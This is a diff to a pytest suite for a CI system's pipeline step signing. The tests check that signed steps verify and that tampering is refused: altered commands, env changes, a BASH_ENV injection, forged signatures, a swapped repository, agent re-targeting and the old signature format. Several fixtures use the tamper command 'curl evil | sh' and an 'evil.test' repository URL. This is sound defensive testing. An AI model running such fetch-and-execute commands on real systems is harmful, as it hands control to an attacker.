@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import base64
+import json
 from pathlib import Path
+from typing import Any
 
 import pytest
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
@@ -24,52 +27,102 @@ from tests.pipelines.helpers import make_pipeline
 YAML = """
 env:
   REGION: eu
+agents: {os: linux}
 steps:
   - key: deploy
     commands:
       - echo "deploy $$REGION to $TARGET"
       - echo done
     env: {MODE: fast}
+    agents: {queue: deploy}
   - key: matrix
     command: echo "{{matrix}} in $$REGION"
     matrix: [a, b]
+    agents: ["arch={{matrix}}"]
 """
+REPO = "https://git.example.test/acme/app.git"
+DEPLOY_AGENT = {"queue": "deploy", "os": "linux"}
 
 
-def _payloads(world: World, yaml: str) -> dict[str, dict[str, object]]:
-    build = services.create_build(world.principal, make_pipeline(world, yaml))
+def _payloads(world: World, yaml: str, repository: str = "") -> dict[str, dict[str, Any]]:
+    pipeline = make_pipeline(world, yaml, repository=repository)
+    build = services.create_build(world.principal, pipeline)
     jobs = Job.objects.filter(build_job__build=build)
     return {f"{j.label}": j.payload for j in jobs}
+
+
+def _agent_for(payload: dict[str, Any]) -> dict[str, str]:
+    if "deploy" in payload["command"]:
+        return DEPLOY_AGENT
+    return {"os": "linux", "arch": payload["matrix"][""]}
 
 
 def test_signed_steps_verify_and_any_change_is_refused(world: World, tmp_path: Path) -> None:
     private, public = generate_keys(tmp_path / "keys")
     assert private.stat().st_mode & 0o077 == 0
-    signed = sign_pipeline(YAML, load_signing_key(private), {"TARGET": "prod"})
+    signed = sign_pipeline(YAML, load_signing_key(private), {"TARGET": "prod"}, REPO)
     key = load_verification_key(public)
-    payloads = _payloads(world, signed)
+    payloads = _payloads(world, signed, REPO)
     assert len(payloads) == 3
     for payload in payloads.values():
-        assert check_payload(key, payload) is None, payload
+        assert check_payload(key, payload, _agent_for(payload)) is None, payload
     deploy = next(p for label, p in payloads.items() if "deploy" in label)
     assert deploy["command"] == 'set -e\necho "deploy $REGION to prod"\necho done'
+    assert deploy["signed"]["agents"] == DEPLOY_AGENT
+    assert deploy["signed"]["repository_url"] == REPO
+
+    def refusal(changed: dict[str, Any], tags: dict[str, str] = DEPLOY_AGENT) -> str:
+        return str(check_payload(key, {**deploy, **changed}, tags))
+
     # A tampered server or database: other command, other step env, an unsafe variable.
-    assert "not the signed command" in str(
-        check_payload(key, {**deploy, "command": "set -e\ncurl evil | sh"})
+    assert "not the signed command" in refusal({"command": "set -e\ncurl evil | sh"})
+    env = dict(deploy["env"])
+    assert "MODE" in refusal({"env": {**env, "MODE": "slow"}})
+    assert "BASH_ENV" in refusal({"env": {**env, "BASH_ENV": "/x"}})
+    forged = {**deploy["signed"], "command": "curl evil | sh"}
+    assert "does not match" in refusal({"command": "set -e\ncurl evil | sh", "signed": forged})
+    # The checkout pointed at another repository, or dropped; the signed one changed along.
+    other_repo = {**deploy["checkout"], "repository": "https://evil.test/x.git"}
+    assert "repository 'https://evil.test/x.git' is not the signed one" in refusal(
+        {"checkout": other_repo}
     )
-    env = dict(deploy["env"])  # type: ignore[call-overload]
-    assert "MODE" in str(check_payload(key, {**deploy, "env": {**env, "MODE": "slow"}}))
-    assert "BASH_ENV" in str(check_payload(key, {**deploy, "env": {**env, "BASH_ENV": "/x"}}))
-    signed_part = dict(deploy["signed"])  # type: ignore[call-overload]
-    forged = {**signed_part, "command": "curl evil | sh"}
-    assert "does not match" in str(
-        check_payload(key, {**deploy, "command": "set -e\ncurl evil | sh", "signed": forged})
+    assert "repository '(none)'" in refusal({"checkout": None})
+    assert "does not match" in refusal(
+        {
+            "checkout": other_repo,
+            "signed": {**deploy["signed"], "repository_url": other_repo["repository"]},
+        }
     )
+    # Re-targeted: the job handed to an agent of another queue or without the signed tag; the
+    # signed rules widened along.
+    assert "agents: queue=deploy" in refusal({}, {"queue": "default", "os": "linux"})
+    assert "agents: queue=deploy" in refusal({}, {"os": "linux"})
+    assert "agents: os=linux" in refusal({}, {"queue": "deploy"})
+    assert "does not match" in refusal({"signed": {**deploy["signed"], "agents": {}}})
+    matrix_a = next(p for p in payloads.values() if p.get("matrix") == {"": "a"})
+    assert "arch=a" in str(check_payload(key, matrix_a, {"os": "linux", "arch": "b"}))
     # Another cluster's key, and an unsigned pipeline.
     other = Ed25519PrivateKey.generate().public_key()
-    assert "does not match" in str(check_payload(other, deploy))
+    assert "does not match" in str(check_payload(other, deploy, DEPLOY_AGENT))
     unsigned = _payloads(World(cluster_name="plain"), YAML)
-    assert all(check_payload(key, p) == "the step is not signed" for p in unsigned.values())
+    assert all(
+        check_payload(key, p, DEPLOY_AGENT) == "the step is not signed" for p in unsigned.values()
+    )
+
+
+def test_a_step_signed_in_the_first_format_is_refused(world: World, tmp_path: Path) -> None:
+    """Signatures over command and env alone bind neither repository nor targeting."""
+    private, public = generate_keys(tmp_path)
+    key = load_signing_key(private)
+    body = json.dumps({"command": "echo old", "env": {}}, separators=(",", ":")).encode()
+    value = base64.b64encode(key.sign(body)).decode()
+    yaml = (
+        "steps:\n  - command: echo old\n    signature:\n      algorithm: EdDSA\n"
+        f"      value: {value}\n      signed_fields: [command, env]\n"
+    )
+    (payload,) = _payloads(world, yaml).values()
+    reason = check_payload(load_verification_key(public), payload, {"queue": "default"})
+    assert reason is not None and "first format" in reason and "sign the pipeline again" in reason
 
 
 def test_keys_that_cannot_be_used_are_refused(tmp_path: Path) -> None:
@@ -95,4 +148,6 @@ def test_an_uploaded_signed_step_reaches_the_job_signed(world: World, tmp_path: 
     text = sign_pipeline("steps: [{command: echo up, key: up}]", load_signing_key(private), {})
     assert jobside.upload_pipeline(job, text) == ["up"]
     uploaded = Job.objects.get(build_job__build=build, build_job__step__key="up")
-    assert check_payload(load_verification_key(public), uploaded.payload) is None
+    key = load_verification_key(public)
+    assert check_payload(key, uploaded.payload, {"queue": "default"}) is None
+    assert "queue=default" in str(check_payload(key, uploaded.payload, {"queue": "deploy"}))
